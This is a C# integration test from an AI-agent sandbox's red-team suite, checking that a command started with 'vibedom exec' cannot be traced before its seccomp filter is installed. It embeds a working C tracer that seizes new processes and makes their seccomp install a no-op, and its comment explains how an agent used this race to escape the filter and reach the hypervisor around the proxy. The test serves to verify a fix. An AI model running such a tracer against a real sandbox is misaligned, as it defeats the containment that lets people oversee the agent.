using System.Runtime.InteropServices;
using Vibedom.Core.Processes;
using Vibedom.Testing;
using Xunit;

namespace Vibedom.IntegrationTests.RedTeam;

/// <summary>
/// Red team s30: `vibedom exec` forks its command into the sandbox's pid namespace, then installs the seccomp filter just
/// before the command's exec. Rootless, that child had the agent's host uid and no capability left, and was dumpable: an
/// agent spinning on <c>PTRACE_SEIZE</c> of the next pid caught it in that window and made the filter's install a
/// no-op, so the user's command (and anything the agent then did through it) ran with no seccomp at all: AF_VSOCK
/// (a route to the hypervisor around the proxy), io_uring, keyrings. The child is now not dumpable until its exec.
/// </summary>
public sealed class ExecTraceAttackTests
{
    /// <summary>
    /// Waits for each next process of the pid namespace, seizes it, skips its seccomp install (the syscall made a no-op
    /// returning 0) and lets it exec; one line a round. x86_64 registers.
    /// </summary>
    private const string Tracer = """
        #define _GNU_SOURCE
        #include <fcntl.h>
        #include <signal.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <sys/prctl.h>
        #include <sys/ptrace.h>
        #include <sys/syscall.h>
        #include <sys/user.h>
        #include <sys/wait.h>
        #include <time.h>
        #include <unistd.h>
        static int last_pid(void) {
            char b[32] = {0};
            int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
            if (fd < 0 || read(fd, b, sizeof b - 1) < 0) return -1;
            close(fd);
            return atoi(b);
        }
        static int seize_next(time_t until) {
            for (;;) {
                int base = last_pid();
                for (int spin = 0; spin < 100000; spin++)
                    for (int c = base + 1; c <= base + 3; c++)
                        if (ptrace(PTRACE_SEIZE, c, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEEXEC) == 0) return c;
                if (time(NULL) > until) return -1;
            }
        }
        int main(void) {
            time_t until = time(NULL) + 120;
            printf("spinning\n");
            fflush(stdout);
            for (int round = 0;; round++) {
                int target = seize_next(until), st, skipped = 0;
                if (target < 0) return 0;
                ptrace(PTRACE_INTERRUPT, target, 0, 0);
                waitpid(target, &st, 0);
                while (ptrace(PTRACE_SYSCALL, target, 0, 0) == 0 && waitpid(target, &st, 0) == target && WIFSTOPPED(st)) {
                    if (st >> 8 == (SIGTRAP | (PTRACE_EVENT_EXEC << 8))) break;
                    if (WSTOPSIG(st) != (SIGTRAP | 0x80)) continue;
                    struct user_regs_struct r;
                    ptrace(PTRACE_GETREGS, target, 0, &r);
                    if ((r.orig_rax == SYS_prctl && r.rdi == PR_SET_SECCOMP) || r.orig_rax == SYS_seccomp) {
                        r.orig_rax = -1;
                        ptrace(PTRACE_SETREGS, target, 0, &r);
                        ptrace(PTRACE_SYSCALL, target, 0, 0);
                        waitpid(target, &st, 0);
                        ptrace(PTRACE_GETREGS, target, 0, &r);
                        r.rax = 0;
                        ptrace(PTRACE_SETREGS, target, 0, &r);
                        skipped = 1;
                    }
                }
                ptrace(PTRACE_DETACH, target, 0, 0);
                printf("round %d: pid %d, filter skipped %d\n", round, target, skipped);
                fflush(stdout);
            }
        }
        """;

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task An_agent_cannot_trace_an_exec_s_command_before_its_seccomp_filter_is_installed(bool rootless)
    {
        Prerequisite.RequireCommand("bwrap");
        Prerequisite.RequireCommand("gcc");
        Prerequisite.Require(RuntimeInformation.ProcessArchitecture == Architecture.X64, "the tracer reads x86_64 registers");
        using var vibedom = new VibedomBinary();
        var workspace = vibedom.Workspace("proj", ("tracer.c", Tracer));
        var cancel = TestContext.Current.CancellationToken;
        await ProcessRunner.Default.RunCheckedAsync(
            ProcessSpec.Of("gcc", "-O2", "-static", "-o", Path.Combine(workspace, "tracer"), Path.Combine(workspace, "tracer.c")), cancel);
        if (rootless)
        {
            await vibedom.GiveToNobodyAsync();
        }

        var start = await As(vibedom, rootless, ["run", workspace, "--yes", "--detach", "--name", "live", "--", "sh", "-c", "./tracer > tracer.out 2>&1; sleep 600"]);
        Assert.True(start.ExitCode == 0, start.StandardError);
        var changes = Path.Combine(Directory.GetDirectories(Path.Combine(vibedom.Home, "logs"), "session-*").Single(), "changes");
        try
        {
            for (var i = 0; i < 200 && !File.Exists(Path.Combine(changes, "tracer.out")); i++)
            {
                await Task.Delay(50, cancel);
            }

            // the race is the agent's to win: on the old code it won within a few execs, now the child cannot be traced at all
            for (var attempt = 0; attempt < 6; attempt++)
            {
                var exec = await As(vibedom, rootless, ["exec", "live", "--", "grep", "Seccomp:", "/proc/self/status"]);

                var tracer = File.Exists(Path.Combine(changes, "tracer.out")) ? File.ReadAllText(Path.Combine(changes, "tracer.out")) : "(none)";
                Assert.True(exec.ExitCode == 0, exec.StandardError);
                Assert.True(exec.StandardOutput == "Seccomp:\t2\n", $"exec {attempt} ran {exec.StandardOutput.Trim()}; the tracer says:\n{tracer}");
            }
        }
        finally
        {
            await As(vibedom, rootless, ["stop", "live", "--keep"]);
        }
    }

    private static Task<ProcessResult> As(VibedomBinary vibedom, bool rootless, string[] args) =>
        rootless ? vibedom.RunAsNobodyAsync(args) : vibedom.RunAsync(args);
}
